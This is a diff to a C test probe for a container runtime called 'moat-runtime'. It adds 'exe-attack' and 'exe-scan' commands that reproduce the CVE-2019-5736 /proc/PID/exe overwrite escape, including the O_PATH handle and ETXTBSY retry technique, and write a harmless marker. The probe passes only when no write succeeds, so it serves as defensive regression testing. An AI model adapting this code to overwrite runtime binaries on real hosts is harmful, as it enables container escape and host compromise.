@@ -24,6 +24,7 @@
 #include <sys/wait.h>
 #include <dirent.h>
 #include <grp.h>
+#include <time.h>
 #include <unistd.h>
 
 static int report(long r)
@@ -125,6 +126,161 @@ static long int80_getpid(void)
     errno = ENOSYS;
     return -1;
 #endif
+}
+
+static const char *errname(int e)
+{
+    const char *n = strerrorname_np(e);
+    return n ? n : "?";
+}
+
+/* One write attempt on FD's file through PATH (a /proc magic link): open it
+ * for writing (never O_TRUNC) and, if that works, write a marker at offset 0.
+ * Prints "LABEL open ok|errno X" and "LABEL write ok|errno X"; counts a write. */
+static int try_overwrite(const char *label, const char *path, int *written)
+{
+    int fd = open(path, O_WRONLY | O_CLOEXEC);
+    if (fd < 0) {
+        printf("%s open errno %s\n", label, errname(errno));
+        return 0;
+    }
+    printf("%s open ok\n", label);
+    static const char marker[] = "MOAT-CVE-2019-5736-OVERWRITTEN";
+    ssize_t n = pwrite(fd, marker, sizeof(marker) - 1, 0);
+    if (n > 0) {
+        printf("%s write ok\n", label);
+        (*written)++;
+    } else {
+        printf("%s write errno %s\n", label, errname(n < 0 ? errno : EIO));
+    }
+    close(fd);
+    return 1;
+}
+
+/* exe-attack FIFO SECONDS: the CVE-2019-5736 attack from inside a container.
+ * Wait (up to SECONDS) for another process whose /proc/PID/exe is a
+ * moat-runtime, i.e. the runtime re-run inside the container through a
+ * `#!/proc/self/exe --log=FIFO` script, held there while it opens FIFO for
+ * writing.  Then try to open its exe for writing directly, keep an O_PATH
+ * handle, let it go (open FIFO for reading), and once it has exited try again
+ * through the handle, as the published exploits do.  Prints each attempt and
+ * "exe-attack reached N written M"; exits 0 only if nothing was written. */
+static int exe_attack(const char *fifo, int seconds)
+{
+    char self[16];
+    snprintf(self, sizeof(self), "%d", (int)getpid());
+    int reached = 0, written = 0;
+    for (long tick = 0; tick < (long)seconds * 1000 && !reached; tick++) {
+        DIR *d = opendir("/proc");
+        if (!d)
+            return report(-1);
+        struct dirent *de;
+        while ((de = readdir(d)) && !reached) {
+            if (de->d_name[0] < '1' || de->d_name[0] > '9' || !strcmp(de->d_name, self))
+                continue;
+            char path[300], exe[256] = "";
+            snprintf(path, sizeof(path), "/proc/%s/exe", de->d_name);
+            ssize_t l = readlink(path, exe, sizeof(exe) - 1);
+            if (l <= 0)
+                continue;
+            exe[l] = 0;
+            if (!strstr(exe, "moat-runtime"))
+                continue;
+            reached = 1;
+            printf("target pid %s exe %s\n", de->d_name, exe);
+            try_overwrite("running", path, &written);
+            int h = open(path, O_PATH | O_CLOEXEC);
+            printf("o_path %s\n", h >= 0 ? "ok" : errname(errno));
+            if (h >= 0) {
+                char hp[64];
+                snprintf(hp, sizeof(hp), "/proc/self/fd/%d", h);
+                try_overwrite("running-via-o_path", hp, &written);
+            }
+            fflush(stdout);
+            /* let the runtime go on and exit, then retry through the handle */
+            int r = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
+            char stat[300];
+            snprintf(stat, sizeof(stat), "/proc/%s/stat", de->d_name);
+            for (int i = 0; i < 5000 && access(stat, F_OK) == 0; i++)
+                usleep(1000);
+            printf("target exited %s\n", access(stat, F_OK) == 0 ? "no" : "yes");
+            if (h >= 0) {
+                /* The file stays busy (ETXTBSY) while anything still runs it, e.g. the
+                 * `moat-runtime exec` on the host whose copy it is: wait for that too. */
+                char hp[64];
+                snprintf(hp, sizeof(hp), "/proc/self/fd/%d", h);
+                int fd = -1;
+                for (int i = 0; i < 5000; i++) {
+                    fd = open(hp, O_WRONLY | O_CLOEXEC);
+                    if (fd >= 0 || errno != ETXTBSY)
+                        break;
+                    usleep(1000);
+                }
+                if (fd >= 0)
+                    close(fd);
+                try_overwrite("exited-via-o_path", hp, &written);
+                close(h);
+            }
+            if (r >= 0)
+                close(r);
+        }
+        closedir(d);
+        if (!reached)
+            usleep(1000);
+    }
+    printf("exe-attack reached %d written %d\n", reached, written);
+    return written ? 1 : 0;
+}
+
+/* exe-scan SECONDS: for SECONDS, open /proc/PID/exe for writing (no O_TRUNC)
+ * of every other process in sight, over and over, as processes enter the
+ * container (`moat-runtime exec`).  Any file that opens gets a marker written
+ * at offset 0.  Prints "exe-scan tries N seen-runtime R opened O written W"
+ * and the errno of every failure with its count; exits 0 if nothing was written. */
+static int exe_scan(int seconds)
+{
+    char self[16];
+    snprintf(self, sizeof(self), "%d", (int)getpid());
+    long tries = 0, runtime = 0, opened = 0;
+    int written = 0;
+    long counts[160] = {0};
+    struct timespec t0, now;
+    clock_gettime(CLOCK_MONOTONIC, &t0);
+    do {
+        DIR *d = opendir("/proc");
+        if (!d)
+            return report(-1);
+        struct dirent *de;
+        while ((de = readdir(d))) {
+            if (de->d_name[0] < '1' || de->d_name[0] > '9' || !strcmp(de->d_name, self) || !strcmp(de->d_name, "1"))
+                continue;
+            char path[300], exe[256] = "";
+            snprintf(path, sizeof(path), "/proc/%s/exe", de->d_name);
+            ssize_t l = readlink(path, exe, sizeof(exe) - 1);
+            if (l > 0) {
+                exe[l] = 0;
+                runtime += strstr(exe, "moat-runtime") != NULL;
+            }
+            tries++;
+            int fd = open(path, O_WRONLY | O_CLOEXEC);
+            if (fd < 0) {
+                counts[errno > 0 && errno < 160 ? errno : 0]++;
+                continue;
+            }
+            opened++;
+            static const char marker[] = "MOAT-CVE-2019-5736-OVERWRITTEN";
+            if (pwrite(fd, marker, sizeof(marker) - 1, 0) > 0)
+                written++;
+            close(fd);
+        }
+        closedir(d);
+        clock_gettime(CLOCK_MONOTONIC, &now);
+    } while (now.tv_sec - t0.tv_sec < seconds);
+    printf("exe-scan tries %ld seen-runtime %ld opened %ld written %d\n", tries, runtime, opened, written);
+    for (int e = 0; e < 160; e++)
+        if (counts[e])
+            printf("errno %s %ld\n", e ? errname(e) : "?", counts[e]);
+    return written ? 1 : 0;
 }
 
 int main(int argc, char **argv)
@@ -236,6 +392,10 @@ int main(int argc, char **argv)
     }
     if (!strcmp(c, "kill"))
         return report(kill(atoi(a), argc > 3 ? atoi(argv[3]) : 0));
+    if (!strcmp(c, "exe-scan"))
+        return exe_scan(atoi(a));
+    if (!strcmp(c, "exe-attack") && argc > 3)
+        return exe_attack(a, atoi(argv[3]));
     fprintf(stderr, "probe: unknown command '%s'\n", c);
     return 2;
 }
